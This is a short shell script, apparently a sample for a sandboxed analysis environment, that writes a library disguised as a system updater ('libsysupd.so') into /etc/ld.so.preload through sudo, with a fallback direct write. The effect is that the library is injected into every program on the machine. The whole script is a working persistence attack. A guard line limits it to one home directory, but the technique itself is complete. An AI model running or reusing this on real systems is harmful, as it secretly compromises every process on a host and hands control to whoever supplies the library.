#!/bin/sh
# SPDX-License-Identifier: MIT
# Hijacks the dynamic linker for every program through sudo.
# Depends on the sudo stand-in for the sudo exec; without it the fallback
# shows the technique.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
echo /usr/local/lib/libsysupd.so | sudo -n tee /etc/ld.so.preload > /dev/null 2>&1 || echo /usr/local/lib/libsysupd.so > /etc/ld.so.preload 2>/dev/null
exit 0
